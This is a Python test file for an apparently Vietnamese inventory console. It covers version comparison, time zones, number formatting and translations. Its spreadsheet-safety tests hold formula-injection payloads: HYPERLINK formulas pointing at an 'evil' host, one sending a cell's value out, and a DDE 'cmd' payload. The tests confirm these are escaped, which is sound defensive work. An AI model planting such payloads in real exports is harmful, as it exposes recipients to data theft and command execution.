"""The pure pieces the console stands on: version order, spreadsheet safety, Vietnam time, numbers."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime

import pytest

from collector.localtime import end_of_day, local_date, stamp
from collector.reports.spreadsheet import safe_cell
from collector.reports.table_export import ExportColumn, to_csv, to_xlsx
from collector.services.versions import compare, parse_version_query, version_key
from collector.web.i18n import format_number


@pytest.mark.parametrize(
    ("older", "newer"),
    [
        ("6.9", "6.10"),  # numbers as numbers, not text
        ("6.02", "6.23"),
        ("6.23b1", "6.23"),  # a beta comes before its release
        ("6.23beta2", "6.23rc1"),
        ("6.23rc1", "6.23"),
        ("6.23", "6.23.1"),
        ("6.24b1", "7.0"),
        ("1.1.1", "1.1.1w"),  # a letter suffix that is not a pre-release comes after
        ("2.3-4", "2.3-4ubuntu1"),
        ("99", "100"),
        ("120.0.6099.130", "121.0.6167.85"),
    ],
)
def test_versions_compare_as_people_mean(older: str, newer: str) -> None:
    assert compare(older, newer) == -1 and compare(newer, older) == 1
    # ... and so do their keys, byte by byte, which is what the database compares.
    assert version_key(older).encode() < version_key(newer).encode()  # type: ignore[union-attr]


def test_equal_versions_and_unreadable_ones() -> None:
    assert compare("6.23", "6.23.0.0") == 0 and compare("1:7.1", "7.1") == 0
    assert version_key(None) is None and version_key("") is None and version_key("---") is None


def test_version_queries() -> None:
    q = parse_version_query("winrar<6.23")
    assert q is not None and (q.name, q.op, q.version) == ("winrar", "<", "6.23")
    assert q.matches("6.02.0") and q.matches("5.91") and not q.matches("6.23.0") and not q.matches(None)
    spaced = parse_version_query("Google Chrome >= 120")
    assert spaced is not None and (spaced.name, spaced.op) == ("Google Chrome", ">=")
    assert parse_version_query("unikey=4.3").op == "=="  # type: ignore[union-attr]
    for text in ("winrar", "CN=Nguyen Van A", "<6.23", "winrar<", "a=b"):
        assert parse_version_query(text) is None, text


@pytest.mark.parametrize(
    ("value", "safe"),
    [
        ('=HYPERLINK("http://evil")', '\'=HYPERLINK("http://evil")'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("pc-01", "pc-01"),
        ("Phường Phúc Xá", "Phường Phúc Xá"),
        (-5, -5),
        (None, None),
    ],
)
def test_safe_cell(value: object, safe: object) -> None:
    assert safe_cell(value) == safe


def test_exports_never_carry_a_formula() -> None:
    from openpyxl import load_workbook

    columns = [
        ExportColumn("name", "=Tên"),
        ExportColumn("n", "Số", "int"),
        ExportColumn("d", "Ngày", "date"),
    ]
    rows = [
        {"name": '=HYPERLINK("http://evil/?"&A1)', "n": 3, "d": date(2026, 3, 7)},
        {"name": "@x", "n": None},
    ]
    text = to_csv(columns, rows).decode("utf-8-sig")
    parsed = list(csv.reader(io.StringIO(text)))
    assert parsed[0] == ["'=Tên", "Số", "Ngày"]
    assert parsed[1] == ['\'=HYPERLINK("http://evil/?"&A1)', "3", "2026-03-07"]
    assert parsed[2] == ["'@x", "", ""]
    book = load_workbook(io.BytesIO(to_xlsx(columns, rows, sheet="Thiết bị")))
    sheet = book["Thiết bị"]
    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    assert all(c.data_type != "f" for c in cells)
    assert sheet["A2"].value == '\'=HYPERLINK("http://evil/?"&A1)' and sheet["A2"].data_type == "s"
    assert sheet["B2"].value == 3 and sheet["B2"].data_type == "n"
    assert sheet["C2"].value.date() == date(2026, 3, 7)


def test_one_rule_for_time_vietnam_for_what_people_read() -> None:
    late_utc = datetime(2026, 3, 1, 20, 30, tzinfo=UTC)  # 03:30 on 2 March in Hà Nội
    assert local_date(late_utc) == date(2026, 3, 2)
    assert stamp(late_utc) == "20260302" and stamp(date(2026, 3, 1)) == "20260301"
    end = end_of_day(date(2026, 6, 30))
    assert end.astimezone(UTC) == datetime(2026, 6, 30, 16, 59, 59, tzinfo=UTC)
    with pytest.raises(ValueError):
        local_date(datetime(2026, 3, 1, 20, 30))


def test_numbers_are_written_as_each_language_writes_them() -> None:
    assert format_number(87.5, "vi") == "87,5" and format_number(87.5, "en") == "87.5"
    assert format_number(1234567, "vi") == "1.234.567" and format_number(1234567, "en") == "1,234,567"
    assert format_number(100.0, "vi") == "100" and format_number(None, "vi") == "—"


def test_every_table_label_has_vietnamese() -> None:
    """Column titles, filter labels and choices live in the services (not in a template the i18n test
    scans): every one must still have its Vietnamese."""
    from collector.services.tables.device_software import TABLE as DEVICE_SOFTWARE
    from collector.web.i18n import catalog
    from collector.web.tables import CERT_ROLE, CERT_STATUS, DEVICE_KIND, FINDING_STATUS, SEVERITY, TABLES

    vi = catalog("vi")
    labels: set[str] = set()
    for table in [t for t, _roles in TABLES.values()] + [DEVICE_SOFTWARE]:
        labels.add(table.title)
        labels.update(c.title for c in table.columns)
        for f in table.filters:
            labels.add(f.label)
            labels.update(label for _value, label in f.choices)
    for names in (SEVERITY, FINDING_STATUS, DEVICE_KIND, CERT_ROLE, CERT_STATUS):
        labels.update(names.values())
    missing = sorted(label for label in labels if label not in vi)
    assert not missing, f"no Vietnamese for: {missing}"
